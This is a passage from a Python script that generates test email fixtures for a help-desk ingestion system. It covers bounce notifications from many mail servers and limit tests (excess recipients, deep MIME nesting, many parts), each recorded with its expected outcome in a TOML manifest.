                "This is the mail system at host relay.desk.example.\n\n####################################################################\n"
                "# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #\n####################################################################\n\n"
                f"Your message could not be delivered for more than 4 hour(s).\nIt will be retried until it is 5 day(s) old.\n\n<ivan@initech.example>: {d}\n"
            ),
            rcpts=[("ivan@initech.example", "delayed", "4.4.1", None, None)],
            orig=original("h", "A"),
            orig_kind="text/rfc822-headers",
        ),
        "bounce",
        "Postfix delay notification (Action: delayed) for our ack on A",
        ticket="A",
    )

    f = "dsn/exim-a.eml"
    oh, ob = original("x", "A")
    body = (
        "This message was created automatically by mail delivery software.\n\nA message that you sent could not be delivered to one or more of its\n"
        "recipients. This is a permanent error. The following address(es) failed:\n\n  ivan@initech.example\n"
        "    host mail.initech.example [198.51.100.25]\n    SMTP error from remote mail server after RCPT TO:<ivan@initech.example>:\n"
        "    550 5.7.1 Mailbox disabled for this recipient\n\n------ This is a copy of the message, including all the headers. ------\n\n"
        + quoted_original(oh, ob)
    )
    add(
        f,
        nonstd_bounce(
            f,
            frm_h="Mail Delivery System <Mailer-Daemon@mail.initech.example>",
            subject="Mail delivery failed: returning message to sender",
            body=body,
            relay="mail.initech.example",
            extra=[
                ("X-Failed-Recipients", "ivan@initech.example"),
                ("Auto-Submitted", "auto-replied"),
            ],
        ),
        "bounce",
        "Exim non-standard bounce, original quoted inline after the copy marker; also Auto-Submitted",
        ticket="A",
    )

    f = "dsn/exim-foreign.eml"
    oh, ob = original("x", None, f)
    body = (
        "This message was created automatically by mail delivery software.\n\nA message that you sent could not be delivered to one or more of its\n"
        "recipients. This is a permanent error. The following address(es) failed:\n\n  old-contact@unknown-corp.example\n    Unrouteable address\n\n"
        "------ This is a copy of the message's headers. ------\n\n" + quoted_original(oh, "")
    )
    add(
        f,
        nonstd_bounce(
            f,
            frm_h="Mail Delivery System <Mailer-Daemon@mx.unknown-corp.example>",
            subject="Mail delivery failed: returning message to sender",
            body=body,
            relay="mx.unknown-corp.example",
            extra=[("X-Failed-Recipients", "old-contact@unknown-corp.example")],
        ),
        "bounce",
        "Exim bounce of a mail that is not a ticket mail: bounce, no ticket",
    )

    o365_html = (
        "<html><head></head><body><div style=\"font-family:'Segoe UI',Frutiger,Arial,sans-serif\"><p><b>Your message to "
        "{r} couldn't be delivered.</b></p><p>{why}</p><p>Office 365</p></div></body></html>"
    )
    f = "dsn/o365-ndr-b.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@acme.example>",
            subject=f"Undeliverable: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            mta="DB9PR04MB8433.eurprd04.prod.outlook.com",
            human="Your message to alice@acme.example couldn't be delivered.\nalice wasn't found at acme.example.\n\nAction Required: Recipient\nUnknown To address\n",
            html=o365_html.format(
                r="alice@acme.example", why="alice wasn't found at acme.example."
            ),
            rcpts=[
                (
                    "alice@acme.example",
                    "failed",
                    "5.1.10",
                    "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup",
                    None,
                )
            ],
            orig=original("h", "B"),
            orig_kind="text/rfc822-headers",
            relay="EUR03-DBA-obe.outbound.protection.outlook.com",
            sender_ip="40.107.104.90",
            msgid_dom="DB9PR04MB8433.eurprd04.prod.outlook.com",
            extra=[
                ("X-MS-Exchange-Message-Is-Ndr", ""),
                ("Content-Language", "en-US"),
                ("X-MS-Exchange-Organization-SCL", "-1"),
            ],
        ),
        "bounce",
        "Office 365 NDR (multipart/report with HTML human part, rfc822-headers of our ack for B)",
        ticket="B",
    )

    f = "dsn/o365-mailbox-full-a.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@initech.example>",
            subject=f"Undeliverable: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            mta="AM8PR04MB7299.eurprd04.prod.outlook.com",
            human="Your message to ivan@initech.example couldn't be delivered.\nThe recipient's mailbox is full and can't accept messages now.\n",
            html=o365_html.format(r="ivan@initech.example", why="The recipient's mailbox is full."),
            rcpts=[
                (
                    "ivan@initech.example",
                    "failed",
                    "5.2.2",
                    "554 5.2.2 mailbox full; STOREDRV.Deliver.Exception:QuotaExceededException",
                    None,
                )
            ],
            orig=original("message/rfc822", "A"),
            relay="EUR05-AM6-obe.outbound.protection.outlook.com",
            sender_ip="40.107.22.61",
            extra=[("X-MS-Exchange-Message-Is-Ndr", "")],
        ),
        "bounce",
        "Office 365 mailbox-full NDR with the full original for A",
        ticket="A",
    )

    f = "dsn/exchange2010-a.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="postmaster@initech.example",
            subject=f"Undeliverable: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            mta="EXCH01.corp.initech.example",
            human=(
                "Delivery has failed to these recipients or groups:\n\nivan@initech.example\nThe e-mail address you entered couldn't be found.\n\n"
                "Diagnostic information for administrators:\n\nGenerating server: EXCH01.corp.initech.example\n\n"
                "ivan@initech.example\n#550 5.1.1 RESOLVER.ADR.RecipNotFound; not found ##\n"
            ),
            rcpts=[("ivan@initech.example", "failed", "5.1.1", None, None)],
            orig=original("message/rfc822", "A"),
            extra=[
                ("Thread-Topic", ACK_SUBJ["A"]),
                ("X-MS-Exchange-Organization-AuthSource", "EXCH01.corp.initech.example"),
            ],
        ),
        "bounce",
        "On-prem Exchange 2010 NDR from postmaster@ (not MAILER-DAEMON)",
        ticket="A",
    )

    f = "dsn/gmail-failure-a.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery Subsystem <mailer-daemon@googlemail.com>",
            subject="Delivery Status Notification (Failure)",
            mta="mx.google.com",
            human=(
                "** Address not found **\n\nYour message wasn't delivered to ivan@initech.example because the address couldn't be found,\n"
                "or is unable to receive mail.\n\nThe response from the remote server was:\n550 5.1.1 The email account that you tried to reach does not exist.\n"
            ),
            html="<html><head></head><body><h2>Address not found</h2><p>Your message wasn't delivered.</p></body></html>",
            rcpts=[
                (
                    "ivan@initech.example",
                    "failed",
                    "5.1.1",
                    "550-5.1.1 The email account that you tried to reach does not exist.",
                    "mail.initech.example",
                )
            ],
            orig=original("message/rfc822", "A"),
            relay="mail-sor-f69.google.com",
            sender_ip="209.85.220.69",
            boundary="000000000000" + hx(f, 16),
            msgid_dom="mx.google.com",
        ),
        "bounce",
        "Gmail 'Delivery Status Notification (Failure)' with the full original for A",
        ticket="A",
    )

    f = "dsn/gmail-delay.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery Subsystem <mailer-daemon@googlemail.com>",
            subject="Delivery Status Notification (Delay)",
            mta="mx.google.com",
            human="** Message not delivered yet **\n\nGmail will keep trying for 46 more hours.\n",
            rcpts=[
                (
                    "survey@unknown-corp.example",
                    "delayed",
                    "4.4.3",
                    "DNS Error: DNS type 'mx' lookup of unknown-corp.example responded with code SERVFAIL",
                    None,
                )
            ],
            orig=original("h", None, f, to=("", "survey@unknown-corp.example")),
            orig_kind="text/rfc822-headers",
            relay="mail-sor-f69.google.com",
            sender_ip="209.85.220.69",
            boundary="000000000000" + hx(f, 16),
        ),
        "bounce",
        "Gmail delay DSN for a non-ticket mail",
    )

    f = "dsn/qmail-b.eml"
    oh, ob = original("x", "B")
    body = (
        "Hi. This is the qmail-send program at mail.acme.example.\nI'm afraid I wasn't able to deliver your message to the following addresses.\n"
        "This is a permanent error; I've given up. Sorry it didn't work out.\n\n<alice@acme.example>:\nSorry, no mailbox here by that name. (#5.1.1)\n\n"
        "--- Below this line is a copy of the message.\n\n" + quoted_original(oh, ob)
    )
    add(
        f,
        nonstd_bounce(
            f,
            frm_h="MAILER-DAEMON@mail.acme.example",
            subject="failure notice",
            body=body,
            relay="mail.acme.example",
        ),
        "bounce",
        "qmail 'failure notice' (no multipart/report), original below the marker, B's id",
        ticket="B",
    )

    f = "dsn/sendmail-foreign.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery Subsystem <MAILER-DAEMON@mail.unknown-corp.example>",
            subject="Returned mail: see transcript for details",
            mta="mail.unknown-corp.example",
            human=(
                "The original message was received at Mon, 2 Jun 2025 18:00:00 GMT\nfrom mx1.desk.example [192.0.2.10]\n\n"
                "   ----- The following addresses had permanent fatal errors -----\n<survey@unknown-corp.example>\n"
                "    (reason: 550 5.1.1 User unknown)\n"
            ),
            rcpts=[
                ("survey@unknown-corp.example", "failed", "5.1.1", "550 5.1.1 User unknown", None)
            ],
            orig=original("message/rfc822", None, f, to=("", "survey@unknown-corp.example")),
        ),
        "bounce",
        "Sendmail DSN for a non-ticket mail",
    )

    f = "dsn/yahoo-b.eml"
    oh, ob = original("x", "B", to=("Alice Acme", "alice.acme@yahoo.com"))
    body = (
        "Sorry, we were unable to deliver your message to the following address.\n\n<alice.acme@yahoo.com>:\n"
        "554: delivery error: dd This user doesn't have a yahoo.com account (alice.acme@yahoo.com) [0] - mta4012.mail.gq1.yahoo.com\n\n"
        "--- Below this line is a copy of the message.\n\n" + quoted_original(oh, ob)
    )
    add(
        f,
        nonstd_bounce(
            f,
            frm_h="MAILER-DAEMON@yahoo.com",
            subject="Failure Notice",
            body=body,
            relay="sonic301-20.consmr.mail.gq1.yahoo.com",
        ),
        "bounce",
        "Yahoo 'Failure Notice' with B's ack quoted (sent to a Cc'd Yahoo address)",
        ticket="B",
    )

    f = "dsn/outlookcom.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="postmaster@outlook.com",
            subject="Undeliverable: Your survey results",
            mta="SN7PR18MB4063.namprd18.prod.outlook.com",
            human="Your message to survey.user@hotmail.com couldn't be delivered.\nsurvey.user wasn't found at hotmail.com.\n",
            html=o365_html.format(
                r="survey.user@hotmail.com", why="survey.user wasn't found at hotmail.com."
            ),
            rcpts=[
                (
                    "survey.user@hotmail.com",
                    "failed",
                    "5.5.0",
                    "550 5.5.0 Requested action not taken: mailbox unavailable",
                    None,
                )
            ],
            orig=original("h", None, f, to=("", "survey.user@hotmail.com")),
            orig_kind="text/rfc822-headers",
            relay="NAM12-DM6-obe.outbound.protection.outlook.com",
            sender_ip="40.92.19.40",
        ),
        "bounce",
        "Outlook.com (consumer) NDR for a non-ticket mail",
    )

    f = "dsn/amazon-ses-b.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="MAILER-DAEMON@amazonses.com",
            subject="Delivery Status Notification (Failure)",
            mta="a8-52.smtp-out.amazonses.com",
            human="An error occurred while trying to deliver the mail to the following recipients:\nalice@acme.example\n",
            rcpts=[
                (
                    "alice@acme.example",
                    "failed",
                    "5.1.1",
                    "550 5.1.1 user unknown",
                    "mx.acme.example",
                )
            ],
            orig=original("message/rfc822", "B"),
            relay="a8-52.smtp-out.amazonses.com",
            sender_ip="54.240.8.52",
            extra=[("Feedback-ID", "::1.us-east-1.bounce:AmazonSES")],
        ),
        "bounce",
        "Amazon SES bounce with the full original for B",
        ticket="B",
    )

    f = "dsn/courier.eml"
    add(
        f,
        dsn_report(
            f,
            frm_h="Courier mail server at mail.partner.example <@>",
            subject="NOTICE: mail delivery status.",
            mta="mail.partner.example",
            human=(
                "This is a delivery status notification from mail.partner.example,\nrunning the Courier mail server, version 1.1.8.\n\n"
                "The original message was received on Mon, 02 Jun 2025 17:55:01 +0000\n\n"
                "<<<  550 5.1.1 <nobody@partner.example>... User unknown\n"
            ),
            rcpts=[
                (
                    "nobody@partner.example",
                    "failed",
                    "5.0.0",
                    "550 5.1.1 <nobody@partner.example>... User unknown",
                    None,
                )
            ],
            orig=original("h", None, f, to=("", "nobody@partner.example")),
            orig_kind="text/rfc822-headers",
        ),
        "bounce",
        "Courier DSN whose From is a weird '<@>' address (still a bounce, never a sender problem)",
    )

    f = "dsn/domino.eml"
    body = (
        "Your message\n\n  Subject: Your survey results\n\nwas not delivered to:\n\n  kim@domino-corp.example\n\n"
        "because:\n\n  User kim (kim@domino-corp.example) not listed in Domino Directory\n"
    )
    add(
        f,
        nonstd_bounce(
            f,
            frm_h="Postmaster <Postmaster@domino-corp.example>",
            subject="DELIVERY FAILURE: User kim (kim@domino-corp.example) not listed in Domino Directory",
            body=body,
            relay="smtp.domino-corp.example",
            extra=[("X-Mailer", "Lotus Domino Release 9.0.1FP10")],
        ),
        "bounce",
        "Lotus Domino DELIVERY FAILURE: no machine-readable part, no original copy",
    )

    f = "dsn/mimecast.eml"
    body = (
        "Your message couldn't be delivered to the recipient(s) listed below.\n\nRecipient: gina.old@globex.example\n"
        "Reason: Rejected by recipient mail server (address does not exist)\n\nMimecast Ltd.\n"
    )
    add(
        f,
        nonstd_bounce(
            f,
            frm_h="Mimecast Postmaster <postmaster@globex.example>",
            subject="Mimecast Returned Message - Your survey results",
            body=body,
            relay="us-smtp-delivery-1.mimecast.com",
            extra=[("X-MC-Unique", an(f, 22))],
        ),
        "bounce",
        "Mimecast-style returned message from postmaster@",
    )

    f = "dsn/forged-a.eml"
    d = "host mail.initech.example[198.51.100.25] said: 550 5.1.1 unknown user"
    add(
        f,
        dsn_report(
            f,
            frm_h=PF,
            subject="Undelivered Mail Returned to Sender",
            mta="mail.initech.example",
            human=pf_human.format(host="mail.initech.example", rcpt="ivan@initech.example", diag=d),
            rcpts=[
                (
                    "ivan@initech.example",
                    "failed",
                    "5.1.1",
                    "550 5.1.1 unknown user",
                    "mail.initech.example",
                )
            ],
            orig=original("message/rfc822", "A", forged=True),
        ),
        "bounce",
        "Bounce whose original carries an id shaped like ours but with a bad signature: bounce, no ticket",
    )

    f = "dsn/postfix-noid.eml"
    d = "host mx.stranger.example[192.0.2.80] said: 550 5.1.1 no such user"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery System <MAILER-DAEMON@mx.stranger.example>",
            subject="Undelivered Mail Returned to Sender",
            mta="mx.stranger.example",
            human=pf_human.format(host="mx.stranger.example", rcpt="olga@stranger.example", diag=d),
            rcpts=[
                (
                    "olga@stranger.example",
                    "failed",
                    "5.1.1",
                    "550 5.1.1 no such user",
                    "mx.stranger.example",
                )
            ],
            orig=original("message/rfc822", None, f, noid=True, to=("", "olga@stranger.example")),
        ),
        "bounce",
        "Bounce of an original without Message-ID",
    )

    f = "dsn/postfix-multi-rcpt-b.eml"
    d = "host mx.acme.example[192.0.2.44] said: 550 5.1.1 unknown"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery System <MAILER-DAEMON@mx.acme.example>",
            subject="Undelivered Mail Returned to Sender",
            mta="mx.acme.example",
            human=pf_human.format(host="mx.acme.example", rcpt="reception@acme.example", diag=d)
            + "\n<billing@acme.example>: "
            + d
            + "\n",
            rcpts=[
                (
                    "reception@acme.example",
                    "failed",
                    "5.1.1",
                    "550 5.1.1 unknown",
                    "mx.acme.example",
                ),
                ("billing@acme.example", "failed", "5.1.1", "550 5.1.1 unknown", "mx.acme.example"),
            ],
            orig=original("message/rfc822", "B", to=("Reception", "reception@acme.example")),
        ),
        "bounce",
        "DSN with two failed recipients for our ack on B",
        ticket="B",
    )


def limits_folder() -> None:
    def people(n, seed):
        return [(f"Staff {i:03d}", f"staff{i:03d}@bigcorp.example") for i in range(n)]

    f = "limits/recipients-101.eml"
    add(
        f,
        thunderbird(
            f,
            ("Big Corp IT", "it@bigcorp.example"),
            "Backup policy change for all staff",
            "Hello all,\n\nFrom July, laptops are backed up hourly.\n\nIT\n",
            to=[SUPPORT] + people(60, f)[:60],
            cc=people(100, f)[60:],
        ),
        "quarantined",
        "101 recipients in To+Cc (support@ plus 100 staff): over the limit",
        reason="limit",
    )

    f = "limits/recipients-100.eml"
    add(
        f,
        thunderbird(
            f,
            ("Big Corp IT", "it@bigcorp.example"),
            "Restore drill next Friday",
            "Hello all,\n\nWe run a restore drill next Friday.\n\nIT\n",
            to=[SUPPORT] + people(59, f),
            cc=people(99, f)[59:],
        ),
        "created",
        "Exactly 100 recipients in To+Cc (support@ plus 99): at the limit, accepted",
    )

    f = "limits/nesting-30.eml"
    node = tb_text("Deeply nested hello.\n")
    for i in range(30):
        b = f"nest{i:02d}_{hx(f + str(i), 10)}"
        node = Multi([("Content-Type", f'multipart/mixed; boundary="{b}"')], b, [node])
    add(
        f,
        raw_mail(f, ("Fuzzer", "fuzz@unknown-corp.example"), "Nested", node),
        "quarantined",
        "MIME tree nested 30 multipart levels deep (limit is 20)",
        reason="limit",
    )

    f = "limits/parts-600.eml"
    parts = [tb_text("Six hundred tiny parts follow.\n")]
    for i in range(599):
        parts.append(Leaf([("Content-Type", "text/plain; charset=us-ascii")], f"part {i}\n"))
    add(
        f,
        raw_mail(f, ("Fuzzer", "fuzz@unknown-corp.example"), "Many parts", tb_mixed(f, parts)),
        "quarantined",
        "600 leaf parts in one multipart/mixed (limit is 500)",
        reason="limit",
    )


ORDER = [
    outlook_folder,
    winmail_folder,
    gmail_folder,
    apple_folder,
    html_folder,
    charsets_folder,
    hostile_folder,
    broken_folder,
    threading_folder,
    duplicates_folder,
    spoofed_folder,
    senders_folder,
    lists_folder,
    ooo_folder,
    dsn_folder,
    limits_folder,
]

MANIFEST_HEAD = """# Expected ingestion outcomes for the desk corpus, in ingestion order.
# Generated by make_corpus.py; see README.md for the world, the placeholders and the keys.
"""


def toml_str(s: str) -> str:
    return json.dumps(s, ensure_ascii=True)


def write_manifest() -> str:
    out = [MANIFEST_HEAD]
    keys = [
        "file",
        "outcome",
        "ticket",
        "reason",
        "attachments",
        "inline_images",
        "severity",
        "note",
    ]
    for e in ENTRIES:
        out.append("\n[[mail]]\n")
        for k in keys:
            if k in e:
                v = e[k]
                out.append(f"{k} = {v}\n" if isinstance(v, int) else f"{k} = {toml_str(v)}\n")
    return "".join(out)


def main() -> int:
    for fn in ORDER:
        fn()
    for folder in FOLDERS:
        d = HERE / folder
        if d.exists():
            for p in d.glob("*.eml"):
                p.unlink()
        d.mkdir(parents=True, exist_ok=True)
    for name, data in OUT.items():
        (HERE / name).write_bytes(data)
    (HERE / "manifest.toml").write_text(write_manifest(), encoding="ascii", newline="\n")
    print(f"wrote {len(OUT)} messages and manifest.toml")
    return 0


if __name__ == "__main__":
    sys.exit(main())
